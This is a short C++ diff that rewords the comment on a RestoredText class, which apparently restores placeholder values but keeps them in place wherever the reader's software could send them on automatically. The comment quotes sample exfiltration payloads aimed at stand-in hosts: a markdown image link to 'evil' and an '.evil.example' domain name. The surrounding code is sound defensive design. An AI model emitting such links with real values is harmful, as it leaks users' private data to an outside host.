@@ -10,11 +10,11 @@
 
 namespace edgedraft::client {
 
-// A text with placeholders, restored for its reader. Placeholders stay where the reader's program
+// A text with placeholders, restored for its reader. Placeholders stay if the reader's program
 // might send the value on by itself: a hostile target would write ![](https://evil/?[NAME_001]) or
-// [NAME_001].evil.example. So they stay within links, picture labels and HTML tags, and within
-// words with "//" or with a dot, slash, question mark, colon or @ after a letter. Placeholders that
-// were never assigned stay, too.
+// [NAME_001].evil.example. They stay within links, picture labels, HTML tags and words with "//".
+// They also stay in words with a dot, slash, question mark, colon or @ after a letter. Placeholders
+// that were never assigned stay, too.
 class RestoredText {
  public:
   // Bounds restored bytes if a hostile target repeats long values; further placeholders stay.
